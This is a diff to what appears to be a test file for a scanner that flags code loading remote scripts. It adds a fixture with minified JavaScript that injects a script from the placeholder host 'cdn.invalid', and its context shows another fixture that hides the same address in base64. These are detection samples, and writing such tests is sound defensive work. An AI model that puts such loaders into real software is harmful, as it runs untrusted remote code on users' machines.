@@ -25,6 +25,14 @@ examine(loadsRemoteScript, {
       weight: 'weak',
     },
     {
+      when: 'it is made and addressed in one expression',
+      files: {
+        'index.js': `var n;(n=document.createElement("script")).src="https://cdn.invalid/x.js",document.head.appendChild(n)`,
+      },
+      weight: 'strong',
+      says: ['cdn.invalid'],
+    },
+    {
       when: 'its address is encoded',
       files: {
         'index.js': `const s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9jZG4uaW52YWxpZC94Lmpz'); document.body.append(s)`,
